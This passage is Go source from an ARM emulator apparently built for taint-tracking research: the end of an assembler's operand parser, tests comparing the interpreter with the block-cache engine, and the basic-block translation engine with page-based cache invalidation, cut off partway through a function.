			lo := mk(OpMOVW)
			lo.Rd, lo.Imm, lo.HasImm = 12, int32(target&0xffff), true
			hi := mk(OpMOVT)
			hi.Rd, hi.Imm, hi.HasImm = 12, int32(target>>16), true
			br := mk(OpBX)
			if base == "BL" {
				br = mk(OpBLX)
			}
			br.Rm = 12
			return []Insn{lo, hi, br}, nil
		}
		insn := mk(mnemonicOps[base])
		if st.thumb && base == "BL" {
			insn.Size = 4
		}
		insn.Imm = int32((target &^ 1) - (st.addr + insn.Size))
		insn.HasImm = true
		return []Insn{insn}, nil
	case "BX", "BLX":
		if err := need(1); err != nil {
			return nil, err
		}
		rm, err := parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rm = rm
		return []Insn{insn}, nil
	case "NEG":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		rm, err := parseReg(ops[1])
		if err != nil {
			return nil, err
		}
		insn := mk(OpRSB)
		insn.Rd, insn.Rn = rd, rm
		insn.Imm, insn.HasImm = 0, true
		return []Insn{insn}, nil
	case "MOV", "MVN":
		if err := need(2); err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rd, err = parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		if isImmOperand(ops[1]) {
			insn.Imm, err = a.parseImm(ops[1])
			if err != nil {
				return nil, err
			}
			insn.HasImm = true
		} else {
			insn.Rm, err = parseReg(ops[1])
			if err != nil {
				return nil, err
			}
		}
		return []Insn{insn}, nil
	case "MOVW", "MOVT":
		if err := need(2); err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rd, err = parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		insn.Imm, err = a.parseImm(ops[1])
		if err != nil {
			return nil, err
		}
		insn.HasImm = true
		return []Insn{insn}, nil
	case "CMP", "CMN", "TST", "TEQ":
		if err := need(2); err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rn, err = parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		if isImmOperand(ops[1]) {
			insn.Imm, err = a.parseImm(ops[1])
			if err != nil {
				return nil, err
			}
			insn.HasImm = true
		} else {
			insn.Rm, err = parseReg(ops[1])
			if err != nil {
				return nil, err
			}
		}
		return []Insn{insn}, nil
	case "LDR", "LDRB", "LDRH", "STR", "STRB", "STRH":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		arg := strings.TrimSpace(ops[1])
		if base == "LDR" && strings.HasPrefix(arg, "=") {
			// LDR Rd, =expr → MOVW/MOVT pair.
			v, err := a.eval(arg[1:])
			if err != nil {
				return nil, err
			}
			lo := mk(OpMOVW)
			lo.Rd, lo.Imm, lo.HasImm = rd, int32(v&0xffff), true
			hi := mk(OpMOVT)
			hi.Rd, hi.Imm, hi.HasImm = rd, int32(v>>16), true
			return []Insn{lo, hi}, nil
		}
		rn, rm, imm, regOff, err := a.parseMem(arg)
		if err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rd, insn.Rn, insn.Rm, insn.Imm, insn.RegOffset = rd, rn, rm, imm, regOff
		return []Insn{insn}, nil
	case "SITOF", "FTOSI", "SITOD", "DTOSI":
		if err := need(2); err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rd, err = parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		insn.Rm, err = parseReg(ops[1])
		if err != nil {
			return nil, err
		}
		return []Insn{insn}, nil
	default:
		// Data-processing, MUL/DIV, FP: 3-operand (or 2-operand accumulate).
		op, ok := mnemonicOps[base]
		if !ok {
			return nil, fmt.Errorf("unknown mnemonic %q", base)
		}
		if len(ops) != 2 && len(ops) != 3 {
			return nil, fmt.Errorf("%s expects 2 or 3 operands, got %d", base, len(ops))
		}
		insn := mk(op)
		insn.Rd, err = parseReg(ops[0])
		if err != nil {
			return nil, err
		}
		rest := ops[1:]
		if len(rest) == 2 {
			insn.Rn, err = parseReg(rest[0])
			if err != nil {
				return nil, err
			}
			rest = rest[1:]
		} else {
			// Two-operand accumulate form: Rd = Rd op X (Table V row 2).
			insn.Rn = insn.Rd
		}
		if isImmOperand(rest[0]) {
			insn.Imm, err = a.parseImm(rest[0])
			if err != nil {
				return nil, err
			}
			insn.HasImm = true
		} else {
			insn.Rm, err = parseReg(rest[0])
			if err != nil {
				return nil, err
			}
		}
		return []Insn{insn}, nil
	}
}
