package arm

import (
	"encoding/binary"
	"testing"

	"repro/internal/mem"
)

// runConfigured assembles src at testBase and runs it to halt under the given
// cache configuration, returning the CPU for inspection.
func runConfigured(t *testing.T, src string, dec, blk bool, setup func(*CPU)) *CPU {
	t.Helper()
	prog, err := Assemble(src, testBase, nil)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.UseDecodeCache = dec
	c.UseBlockCache = blk
	c.R[SP] = 0x80000
	entry := prog.Base
	if e, ok := prog.Labels["_start"]; ok {
		entry = e
	}
	c.SetThumbPC(entry)
	if setup != nil {
		setup(c)
	}
	if err := c.Run(1 << 20); err != nil {
		t.Fatalf("run: %v", err)
	}
	if !c.Halted {
		t.Fatalf("program did not halt")
	}
	return c
}

// compareEngines runs src under the plain interpreter and the block engine
// and requires identical architectural state.
func compareEngines(t *testing.T, src string) (interp, block *CPU) {
	t.Helper()
	interp = runConfigured(t, src, true, false, nil)
	block = runConfigured(t, src, true, true, nil)
	if interp.R != block.R {
		t.Errorf("registers diverge:\ninterp %v\nblock  %v", interp.R, block.R)
	}
	if interp.N != block.N || interp.Z != block.Z || interp.C != block.C || interp.V != block.V {
		t.Errorf("flags diverge: interp NZCV=%v%v%v%v block NZCV=%v%v%v%v",
			interp.N, interp.Z, interp.C, interp.V, block.N, block.Z, block.C, block.V)
	}
	if interp.InsnCount != block.InsnCount {
		t.Errorf("InsnCount diverges: interp %d, block %d", interp.InsnCount, block.InsnCount)
	}
	if interp.Thumb != block.Thumb {
		t.Errorf("Thumb state diverges: interp %v, block %v", interp.Thumb, block.Thumb)
	}
	return interp, block
}

// A conditional branch terminating a block must take both edges correctly:
// the taken edge chains to the loop head, the cond-failed edge falls through
// past endPC. Counts and flags must match the interpreter exactly (including
// the count-then-check order for condition-failed instructions).
func TestBlockCondBranchAtBlockEnd(t *testing.T) {
	_, block := compareEngines(t, `
_start:
	MOV R0, #0
	MOV R2, #20
loop:
	ADD R0, R0, R2
	SUB R2, R2, #1
	CMP R2, #0
	BNE loop
	HLT
`)
	if block.R[0] != 210 {
		t.Errorf("R0 = %d, want 210", block.R[0])
	}
	if block.BlockHits == 0 {
		t.Error("loop never hit the block cache")
	}
}

// ARM<->Thumb interworking inside a chained pair: the loop body BLXes into a
// Thumb callee and returns, so the chain alternates instruction sets. Block
// keys carry the Thumb bit, so an ARM and a Thumb translation of the same
// address can never be confused.
func TestBlockInterworkingChain(t *testing.T) {
	_, block := compareEngines(t, `
	.arm
_start:
	MOV R0, #0
	MOV R5, #8
	LDR R4, =tadd
aloop:
	BLX R4
	SUB R5, R5, #1
	CMP R5, #0
	BNE aloop
	HLT
	.thumb
tadd:
	ADD R0, R0, #3
	BX LR
`)
	if block.R[0] != 24 {
		t.Errorf("R0 = %d, want 24", block.R[0])
	}
	if block.Thumb {
		t.Error("CPU should end in ARM state")
	}
	if block.BlockHits == 0 {
		t.Error("interworking loop never hit the block cache")
	}
}

// A hook registered at an address in the middle of an already-cached block
// must fire on the next branch to that address: Hook invalidates the page's
// blocks, so retranslation stops at the hooked boundary and records the
// startHooked flag. Reaching the address by fall-through must NOT fire the
// hook — same semantics as the interpreter.
func TestBlockHookInsideCachedBlock(t *testing.T) {
	const src = `
_start:
	MOV R0, #0
	MOV R5, #0
	ADD R0, R0, #1
mid:
	ADD R0, R0, #2
	ADD R0, R0, #4
	CMP R5, #0
	BNE done
	MOV R5, #1
	B mid
done:
	HLT
`
	for _, blk := range []bool{false, true} {
		prog := MustAssemble(src, testBase, nil)
		m := mem.New()
		m.WriteBytes(prog.Base, prog.Code)
		c := New(m)
		c.UseDecodeCache = true
		c.UseBlockCache = blk
		c.SetThumbPC(prog.Base)
		if err := c.Run(1 << 20); err != nil {
			t.Fatal(err)
		}
		if c.R[0] != 13 {
			t.Fatalf("blk=%v: first run R0 = %d, want 13", blk, c.R[0])
		}

		// Second run on the same (now warm) CPU, with a hook at mid.
		fired := 0
		c.Hook(prog.MustLabel("mid"), func(c *CPU) HookAction {
			fired++
			return ActionContinue
		})
		c.Halted = false
		c.R = [16]uint32{SP: 0x80000}
		c.SetThumbPC(prog.Base)
		if err := c.Run(1 << 20); err != nil {
			t.Fatal(err)
		}
		if c.R[0] != 13 {
			t.Errorf("blk=%v: hooked run R0 = %d, want 13", blk, c.R[0])
		}
		// The first pass reaches mid by fall-through (no hook), the second
		// by the explicit B mid (hook fires): exactly one firing.
		if fired != 1 {
			t.Errorf("blk=%v: hook fired %d times, want 1", blk, fired)
		}
	}
}

// A block whose instructions straddle a 4 KiB page boundary must be
// registered on (and invalidated through) both pages: a write that only
// touches the second page still drops the whole translation.
func TestBlockSpansPageBoundary(t *testing.T) {
	const base = 0x10ff0 // last 16 bytes of a page; insns 5+ land on the next
	prog := MustAssemble(`
_start:
	MOV R0, #1
	ADD R0, R0, #2
	ADD R0, R0, #4
	ADD R0, R0, #8
	ADD R0, R0, #16
	HLT
`, base, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.UseDecodeCache = true
	c.UseBlockCache = true
	c.SetThumbPC(base)
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if c.R[0] != 31 {
		t.Fatalf("R0 = %d, want 31", c.R[0])
	}

	// Patch the ADD #16 — it lives on the second page (0x11000).
	patch := MustAssemble("ADD R0, R0, #32", 0x11000, nil)
	if 0x11000>>12 == base>>12 {
		t.Fatal("test bug: patch target is not on the second page")
	}
	m.WriteBytes(0x11000, patch.Code)
	misses := c.BlockMisses
	c.Halted = false
	c.SetThumbPC(base)
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if c.R[0] != 47 {
		t.Errorf("after second-page patch R0 = %d, want 47 (stale translation survived)", c.R[0])
	}
	if c.BlockMisses == misses {
		t.Error("expected a retranslation after the second-page write")
	}
}

// Regression test for the stale decode-cache bug: a host-side rewrite of
// already-executed (and therefore already-decoded) code must be visible on
// the next run under every cache configuration. Before write-notify existed,
// the decoded-instruction cache was never invalidated and replayed the old
// instruction.
func TestSelfModifyingCodeHostRewrite(t *testing.T) {
	const src = `
_start:
	MOV R0, #7
	HLT
`
	configs := []struct {
		name     string
		dec, blk bool
	}{
		{"uncached", false, false},
		{"insn-cache", true, false},
		{"block-cache", true, true},
	}
	for _, cfg := range configs {
		t.Run(cfg.name, func(t *testing.T) {
			prog := MustAssemble(src, testBase, nil)
			m := mem.New()
			m.WriteBytes(prog.Base, prog.Code)
			c := New(m)
			c.UseDecodeCache = cfg.dec
			c.UseBlockCache = cfg.blk
			c.SetThumbPC(testBase)
			if err := c.Run(1000); err != nil {
				t.Fatal(err)
			}
			if c.R[0] != 7 {
				t.Fatalf("first run R0 = %d, want 7", c.R[0])
			}
			m.WriteBytes(testBase, MustAssemble("MOV R0, #9", testBase, nil).Code)
			c.Halted = false
			c.SetThumbPC(testBase)
			if err := c.Run(1000); err != nil {
				t.Fatal(err)
			}
			if c.R[0] != 9 {
				t.Errorf("rewritten run R0 = %d, want 9 (stale decode cache)", c.R[0])
			}
		})
	}
}

// Guest-driven self-modifying code: a store patches an instruction that the
// *currently executing* block already translated, so the block must bail out
// mid-run (the stepNext validity check) and the next loop iteration must
// execute the new encoding. Exercised under every cache configuration.
func TestSelfModifyingCodeInBlock(t *testing.T) {
	const src = `
_start:
	MOV R5, #2
target:
	MOV R0, #7
	STR R2, [R1]
	SUB R5, R5, #1
	CMP R5, #0
	BNE target
	HLT
`
	// The patch: MOV R0, #42 encoded by our own assembler.
	patch := MustAssemble("MOV R0, #42", 0, nil)
	enc := binary.LittleEndian.Uint32(patch.Code)

	configs := []struct {
		name     string
		dec, blk bool
	}{
		{"uncached", false, false},
		{"insn-cache", true, false},
		{"block-cache", true, true},
	}
	for _, cfg := range configs {
		t.Run(cfg.name, func(t *testing.T) {
			prog := MustAssemble(src, testBase, nil)
			m := mem.New()
			m.WriteBytes(prog.Base, prog.Code)
			c := New(m)
			c.UseDecodeCache = cfg.dec
			c.UseBlockCache = cfg.blk
			c.R[1] = prog.MustLabel("target") // address to patch
			c.R[2] = enc                      // new encoding
			c.SetThumbPC(testBase)
			if err := c.Run(1000); err != nil {
				t.Fatal(err)
			}
			// Pass 1 executes the original MOV R0, #7, then patches it;
			// pass 2 must observe MOV R0, #42.
			if c.R[0] != 42 {
				t.Errorf("R0 = %d, want 42 (pass 2 executed a stale instruction)", c.R[0])
			}
			if c.R[5] != 0 {
				t.Errorf("R5 = %d, want 0", c.R[5])
			}
		})
	}
}
