package arm

// This file implements the basic-block translation engine — the analog of
// QEMU's TCG translation cache, which is the execution substrate NDroid
// actually instruments (§V-C's hot-instruction cache is the degenerate
// one-instruction case). A straight-line run of guest code is decoded once
// into a Block: a slice of pre-resolved step closures with direct-threaded
// dispatch — no opcode switch, no condition re-check for always-condition
// instructions, and the taint-tracer handler pre-bound per instruction at
// translation time (see InsnBinder). Blocks end at control transfers, SVC,
// HLT, and hooked addresses; they chain to their taken/fall-through
// successors so hot loops never touch the cache map.
//
// Correctness against self-modifying code and reloaded library regions comes
// from page-granular invalidation: every page holding a translation is marked
// in a bitmap, and the Memory write-notify callback invalidates that page's
// blocks (and decoded-instruction pages) on any store into it. Hook and
// Unhook likewise invalidate the affected page, since translation stops
// blocks at hooked addresses.

import (
	"fmt"
	"math"

	"repro/internal/fault"
)

// InsnBinder is an optional extension of Tracer: a tracer that can pre-bind
// its per-instruction work at translation time. The returned closure (nil for
// "nothing to do") replaces the TraceInsn dynamic dispatch in translated
// blocks, moving range checks and handler lookup out of the hot loop.
//
// Bindings are captured per block; a binder whose behavior for an already
// translated address changes (e.g. a re-scoped trace range) must be paired
// with CPU.InvalidateBlocks. Replacing CPU.Tracer wholesale is detected
// automatically and invalidates all blocks.
type InsnBinder interface {
	Tracer
	BindInsn(addr uint32, insn Insn) func(c *CPU)
}

// stepRes is the outcome of one translated step.
type stepRes uint8

const (
	stepNext   stepRes = iota // fall through to the next step
	stepBranch                // taken control transfer; PC/Thumb already set
	stepHalt                  // CPU halted; PC materialized
	stepErr                   // error recorded in c.blockErr; PC materialized
)

type stepFn func(c *CPU) stepRes

// Block is one translated straight-line run of guest code. Blocks translated
// under a tracer carry two step variants: the instrumented steps (Table V
// handler pre-bound per instruction) and bare (no taint dispatch at all).
// The taint-presence gate picks the variant per execution, so untainted
// phases run at vanilla speed without retranslation on gate flips.
type Block struct {
	key   uint32 // start PC | thumb bit
	steps []stepFn
	// bare is the uninstrumented variant of steps; nil when the block was
	// translated without a tracer (steps is already bare then).
	bare []stepFn
	// nexts[i] is the address of the instruction after step i, used to
	// materialize PC when a write into this block forces a mid-run bail-out.
	nexts []uint32
	endPC uint32 // fall-through address past the last instruction
	valid bool
	// startHooked records whether an address hook existed at the block's
	// start when it was translated. Hook/Unhook invalidate the page's
	// blocks, so for any valid block the flag is current — which lets the
	// dispatcher skip the hook-map lookup entirely on the hot path.
	startHooked bool

	// pinned records that every page this block's bytes touch carries a
	// static taint-irrelevance pin (CPU.PinPage): dispatch takes the bare
	// variant without consulting the liveness gate.
	pinned bool

	// succTaken/succFall cache the successor blocks (chaining). They are
	// hints: each use re-checks key and validity.
	succTaken *Block
	succFall  *Block
}

// maxBlockSteps caps translation length; CF-Bench-style loops fit in far
// fewer, and shorter blocks bound the budget-check granularity in RunUntil.
const maxBlockSteps = 64

func pcKey(pc uint32, thumb bool) uint32 {
	if thumb {
		return pc | 1
	}
	return pc
}

// markCodeRange records that [lo, hi) holds cached translations (decoded
// instructions and/or translated blocks), allocating the 128 KiB page bitmap
// on first use so CPUs that never execute stay cheap, and widening each
// touched page's code extent.
func (c *CPU) markCodeRange(lo, hi uint32) {
	if hi <= lo {
		return
	}
	if c.codePages == nil {
		c.codePages = make([]uint32, 1<<15) // 2^20 pages / 32 bits
		c.codeExt = make(map[uint32][2]uint32)
	}
	for pn := lo >> 12; pn <= (hi-1)>>12; pn++ {
		c.codePages[pn>>5] |= 1 << (pn & 31)
		e, ok := c.codeExt[pn]
		if !ok {
			e = [2]uint32{^uint32(0), 0}
		}
		if lo < e[0] {
			e[0] = lo
		}
		if hi > e[1] {
			e[1] = hi
		}
		c.codeExt[pn] = e
	}
}

// onMemWrite is the Memory write-notify callback: a store into the code
// extent of a page that holds translations invalidates them. Pages without
// translations cost two loads and a mask, which is what keeps the notify
// surface affordable on the data path; stores to a marked page but outside
// its decoded/translated byte range (data placed next to code in the same
// image page) are also ignored — no cached state covers those bytes.
// Memory guarantees the notified range [addr, addr+n) stays on one page.
func (c *CPU) onMemWrite(addr, n uint32) {
	if c.codePages == nil {
		return
	}
	pn := addr >> 12
	w, bit := pn>>5, uint32(1)<<(pn&31)
	if c.codePages[w]&bit == 0 {
		return
	}
	if e, ok := c.codeExt[pn]; ok && (addr+n <= e[0] || addr >= e[1]) {
		return
	}
	c.codePages[w] &^= bit
	delete(c.codeExt, pn)
	c.invalidatePage(pn)
	if c.OnCodeWrite != nil {
		c.OnCodeWrite(addr)
	}
}

// invalidatePage drops every translation that touches page pn: both decoded
// instruction pages (ARM and Thumb views) and translated blocks.
func (c *CPU) invalidatePage(pn uint32) {
	delete(c.decodeCache, pn<<1)
	delete(c.decodeCache, pn<<1|1)
	if c.lastPageKey>>1 == pn {
		c.lastPageKey = ^uint32(0)
		c.lastPage = nil
	}
	c.invalidatePageBlocks(pn)
}

// invalidatePageBlocks drops only the translated blocks on page pn (Hook and
// Unhook use this: hooks change block boundaries but not decoded bytes). The
// epoch bump is unconditional — even when the page holds no translations yet —
// so that hook/pin mutations are always visible to CodeEpoch observers (the
// fused JNI bridge treats any bump as "the translation world may have
// changed" and falls back to its conservative path).
func (c *CPU) invalidatePageBlocks(pn uint32) {
	c.CodeEpoch++
	if c.blocksByPage == nil {
		return
	}
	for _, b := range c.blocksByPage[pn] {
		if b.valid {
			b.valid = false
			delete(c.blockCache, b.key)
		}
	}
	delete(c.blocksByPage, pn)
}

// invalidateAllBlocks drops every translated block (decoded instruction
// pages survive; they carry no tracer or hook bindings).
func (c *CPU) invalidateAllBlocks() {
	c.CodeEpoch++
	for _, b := range c.blockCache {
		b.valid = false
	}
	c.blockCache = make(map[uint32]*Block)
	c.blocksByPage = make(map[uint32][]*Block)
}

// InvalidateBlocks drops every translated block. Callers that mutate
// translation inputs behind the engine's back (e.g. re-scoping a tracer's
// range after execution started) must call it; writes to code memory and
// Hook/Unhook invalidate automatically.
func (c *CPU) InvalidateBlocks() { c.invalidateAllBlocks() }

// runBlocks is the block-engine execution loop behind Run/RunUntil.
func (c *CPU) runBlocks(stop uint32, maxInsns uint64) error {
	// Blocks capture tracer bindings at translation time; a replaced tracer
	// invalidates them all (the epoch check QEMU does with tb_flush). The
	// check runs here and after every addr-hook invocation in stepBlock —
	// the only points where foreign code can swap the tracer — instead of
	// paying an interface comparison on every block dispatch.
	if c.Tracer != c.boundTracer {
		c.invalidateAllBlocks()
		c.boundTracer = c.Tracer
	}
	// Shadow state may have been written directly while the CPU was stopped
	// (tests and benchmarks seed RegTaint between runs); force the gate to
	// re-derive liveness on the first dispatch.
	c.gateBail = true
	start := c.InsnCount
	var hint *Block
	for !c.Halted && c.R[PC] != stop {
		if f := fault.Hit(SiteDispatch, c.R[PC]); f != nil {
			return f
		}
		nb, err := c.stepBlock(hint)
		if err != nil {
			return err
		}
		hint = nb
		if c.InsnCount-start > maxInsns {
			return c.budgetFault(maxInsns)
		}
	}
	return nil
}

// RunUntilHint is RunUntil with a translated-block entry hint: the fused JNI
// bridge caches the entry block of its chain's native method and seeds the
// first dispatch with it, so the per-call cache-map lookup disappears. The
// executed entry block is returned for the caller to cache (nil when the run
// never dispatched a block — immediate stop, hook redirection, or the block
// engine being off). The hint is only an accelerator: a stale or mismatched
// hint is re-validated against key and validity exactly like a chained
// successor, so a wrong hint costs one lookup, never correctness.
func (c *CPU) RunUntilHint(stop uint32, maxInsns uint64, hint *Block) (*Block, error) {
	if !c.UseBlockCache {
		return nil, c.RunUntil(stop, maxInsns)
	}
	if maxInsns == 0 {
		maxInsns = 256 << 20
	}
	if c.Tracer != c.boundTracer {
		c.invalidateAllBlocks()
		c.boundTracer = c.Tracer
	}
	c.gateBail = true
	start := c.InsnCount
	entryKey := pcKey(c.R[PC], c.Thumb)
	if hint != nil && (hint.key != entryKey || !hint.valid) {
		hint = nil
	}
	entry, cur, first := hint, hint, true
	for !c.Halted && c.R[PC] != stop {
		if f := fault.Hit(SiteDispatch, c.R[PC]); f != nil {
			return entry, f
		}
		nb, err := c.stepBlock(cur)
		if err != nil {
			return entry, err
		}
		if first {
			first = false
			if entry == nil {
				if b := c.blockCache[entryKey]; b != nil && b.valid {
					entry = b
				}
			}
		}
		cur = nb
		if c.InsnCount-start > maxInsns {
			return entry, c.budgetFault(maxInsns)
		}
	}
	return entry, nil
}

// stepBlock runs the hook check at the current PC (same semantics as Step:
// hooks fire only when the address was reached through a control transfer),
// then executes one translated block. hint, when it matches the current PC,
// skips the cache-map lookup — the chaining fast path.
//
// The block is resolved before the hook check so that the common case — a
// cached block whose start carries no hook — clears checkHook with a single
// flag test instead of an addrHooks map lookup per taken branch. The flag is
// trustworthy because Hook/Unhook invalidate the affected page's blocks.
func (c *CPU) stepBlock(hint *Block) (*Block, error) {
	pc := c.R[PC]
	key := pcKey(pc, c.Thumb)
	b := hint
	if b == nil || b.key != key || !b.valid {
		if b = c.blockCache[key]; b != nil && !b.valid {
			b = nil
		}
	}
	if c.checkHook {
		c.checkHook = false
		if b == nil || b.startHooked {
			if hook, ok := c.addrHooks[pc]; ok {
				switch hook(c) {
				case ActionReturn:
					ret := c.R[LR]
					c.SetThumbPC(ret)
					c.EmitBranch(pc, ret&^1)
					return nil, nil
				}
				if c.Halted || c.R[PC] != pc {
					// The hook halted the CPU or redirected control itself.
					return nil, nil
				}
				if c.Tracer != c.boundTracer {
					// The hook swapped the tracer; stale bindings must go.
					c.invalidateAllBlocks()
					c.boundTracer = c.Tracer
				}
			}
			if b != nil && !b.valid {
				// The hook re-hooked or rewrote this page under us.
				b = nil
			}
		}
	}
	if b == nil {
		b = c.translate(pc)
		if b == nil {
			// Untranslatable first instruction: one interpreter step yields
			// the identical error (or executes the oddball insn).
			return nil, c.Step()
		}
		c.BlockMisses++
	} else {
		c.BlockHits++
	}
	return c.execBlock(b)
}

// execBlock runs a block's steps and resolves the successor hint. InsnCount
// is settled in bulk at every exit — positionally exact (i+1 instructions ran,
// condition-failed ones included, matching the interpreter's count-then-check
// order), and nothing reads the counter mid-block: hooks and the RunUntil
// budget only observe it at dispatch boundaries.
func (c *CPU) execBlock(b *Block) (*Block, error) {
	if c.UseTaintGate && b.bare != nil {
		if b.pinned && !c.gateWasLive && !c.gateBail {
			// Statically pinned page, no pending taint edge: skip even the
			// liveness predicate. If an edge is pending (a pin turned out
			// optimistic), fall through to the full gate below, which
			// re-derives liveness — wrong pins cost precision, never
			// soundness.
			c.GatePinnedBlocks++
			return c.execBare(b)
		}
		live := c.taintLive()
		if live != c.gateWasLive {
			c.GateFlips++
			c.gateWasLive = live
		}
		if !live {
			c.GateFastBlocks++
			return c.execBare(b)
		}
		c.GateSlowBlocks++
	}
	steps := b.steps
	for i := 0; i < len(steps); i++ {
		switch steps[i](c) {
		case stepNext:
			if b.valid {
				continue
			}
			// A store from inside this block invalidated it (self-modifying
			// code). Materialize PC past the executed instruction and bail to
			// the dispatcher, which retranslates from the fresh bytes.
			c.InsnCount += uint64(i + 1)
			c.R[PC] = b.nexts[i]
			return nil, nil
		case stepBranch:
			c.InsnCount += uint64(i + 1)
			return c.chase(b, true), nil
		case stepHalt:
			c.InsnCount += uint64(i + 1)
			return nil, nil
		case stepErr:
			c.InsnCount += uint64(i + 1)
			err := c.blockErr
			c.blockErr = nil
			return nil, err
		}
	}
	c.InsnCount += uint64(len(steps))
	c.R[PC] = b.endPC
	if !b.valid {
		return nil, nil
	}
	return c.chase(b, false), nil
}

// execBare runs a block's uninstrumented variant. It is execBlock's loop
// with one extra bail condition: gateBail, raised edge-triggered by the
// liveness aggregate when the first taint tag is introduced while this block
// may be mid-run (a write observer, a syscall model). Bailing materializes
// PC after the already-executed instruction — which ran against a still
// taint-free machine, so skipping its Table V dispatch was exact — and the
// dispatcher resumes on the instrumented variant from the next instruction.
func (c *CPU) execBare(b *Block) (*Block, error) {
	steps := b.bare
	for i := 0; i < len(steps); i++ {
		switch steps[i](c) {
		case stepNext:
			if b.valid && !c.gateBail {
				continue
			}
			c.InsnCount += uint64(i + 1)
			c.R[PC] = b.nexts[i]
			return nil, nil
		case stepBranch:
			c.InsnCount += uint64(i + 1)
			return c.chase(b, true), nil
		case stepHalt:
			c.InsnCount += uint64(i + 1)
			return nil, nil
		case stepErr:
			c.InsnCount += uint64(i + 1)
			err := c.blockErr
			c.blockErr = nil
			return nil, err
		}
	}
	c.InsnCount += uint64(len(steps))
	c.R[PC] = b.endPC
	if !b.valid {
		return nil, nil
	}
	return c.chase(b, false), nil
}

// chase resolves the successor block for the current PC, memoizing it on the
// predecessor so steady-state loops skip the cache map entirely.
func (c *CPU) chase(b *Block, taken bool) *Block {
	key := pcKey(c.R[PC], c.Thumb)
	slot := &b.succFall
	if taken {
		slot = &b.succTaken
	}
	if nb := *slot; nb != nil && nb.valid && nb.key == key {
		return nb
	}
	if nb := c.blockCache[key]; nb != nil && nb.valid {
		*slot = nb
		return nb
	}
	return nil
}

// translate decodes a straight-line run starting at pc (in the CPU's current
// Thumb state) into a new cached block. It returns nil when the very first
// instruction cannot be translated.
func (c *CPU) translate(startPC uint32) *Block {
	b := &Block{key: pcKey(startPC, c.Thumb), valid: true}
	_, b.startHooked = c.addrHooks[startPC]
	var binder InsnBinder
	if c.Tracer != nil {
		binder, _ = c.Tracer.(InsnBinder)
	}
	pc := startPC
	for len(b.steps) < maxBlockSteps {
		insn := c.decodeAt(pc)
		if insn.Op == OpInvalid {
			break
		}
		fn, bare, ends := c.buildStep(pc, insn, binder)
		if fn == nil {
			break
		}
		b.steps = append(b.steps, fn)
		if c.Tracer != nil {
			b.bare = append(b.bare, bare)
		}
		pc += insn.Size
		b.nexts = append(b.nexts, pc)
		if ends || insn.Rd == PC {
			// Control transfers, SVC, and HLT end blocks; so does any write
			// to R15 through a data op (the interpreter overwrites it with
			// the fall-through address, which endPC materialization mirrors).
			break
		}
		if _, hooked := c.addrHooks[pc]; hooked {
			// Stop before a hooked address so the instrumentation boundary
			// stays a block boundary.
			break
		}
	}
	if len(b.steps) == 0 {
		return nil
	}
	b.endPC = pc
	if c.pinnedPages != nil {
		b.pinned = true
		for pn := startPC >> 12; pn <= (pc-1)>>12; pn++ {
			if !c.pinnedPages[pn] {
				b.pinned = false
				break
			}
		}
	}
	if c.blockCache == nil {
		c.blockCache = make(map[uint32]*Block)
		c.blocksByPage = make(map[uint32][]*Block)
	}
	c.blockCache[b.key] = b
	for pn := startPC >> 12; pn <= (pc-1)>>12; pn++ {
		c.blocksByPage[pn] = append(c.blocksByPage[pn], b)
	}
	c.markCodeRange(startPC, pc)
	return b
}

// buildStep assembles the full per-instruction closures: condition gate
// (pre-elided for AL), pre-bound tracer call, then the specialized executor.
// It returns both variants — fn with the tracer call, bare without — so each
// block is translated once and dispatched dual-mode by the taint gate. ends
// reports that the instruction must terminate the block. A nil fn means the
// op is not translatable.
func (c *CPU) buildStep(pc uint32, insn Insn, binder InsnBinder) (fn, bare stepFn, ends bool) {
	exec, ends, ok := c.buildExec(pc, insn)
	if !ok {
		return nil, nil, false
	}
	if refsPC(insn) {
		// The interpreter keeps R15 equal to the executing instruction's
		// address; materialize it for the rare instructions that read it.
		inner := exec
		at := pc
		exec = func(c *CPU) stepRes {
			c.R[PC] = at
			return inner(c)
		}
	}
	cond := insn.Cond
	bare = exec
	if cond != CondAL {
		inner := exec
		bare = func(c *CPU) stepRes {
			if !c.condHolds(cond) {
				return stepNext
			}
			return inner(c)
		}
	}
	var trace func(c *CPU)
	if c.Tracer != nil {
		if binder != nil {
			trace = binder.BindInsn(pc, insn)
		} else {
			tr, at, in := c.Tracer, pc, insn
			trace = func(c *CPU) { tr.TraceInsn(c, at, in) }
		}
	}
	switch {
	case trace == nil:
		// Nothing to instrument (no tracer, or the binder pre-resolved this
		// address to out-of-range): both variants are the bare executor, and
		// instruction counting is settled in bulk by the block loop.
		return bare, bare, ends
	case cond == CondAL:
		return func(c *CPU) stepRes {
			trace(c)
			return exec(c)
		}, bare, ends
	default:
		return func(c *CPU) stepRes {
			if !c.condHolds(cond) {
				return stepNext
			}
			trace(c)
			return exec(c)
		}, bare, ends
	}
}

// refsPC reports whether the instruction reads R15 as a source.
func refsPC(in Insn) bool {
	return in.Rn == PC || in.Rm == PC ||
		(in.Op == OpSTM && in.RegList&(1<<PC) != 0)
}

// buildExec returns the pre-resolved executor closure for one instruction.
// The closures are the unrolled bodies of (*CPU).exec with every decode-time
// decision (register numbers, immediate vs register operand, flag setting)
// already taken.
func (c *CPU) buildExec(pc uint32, insn Insn) (fn stepFn, ends, ok bool) {
	rd, rn, rm := int(insn.Rd), int(insn.Rn), int(insn.Rm)
	imm := uint32(insn.Imm)
	setf := insn.SetFlags
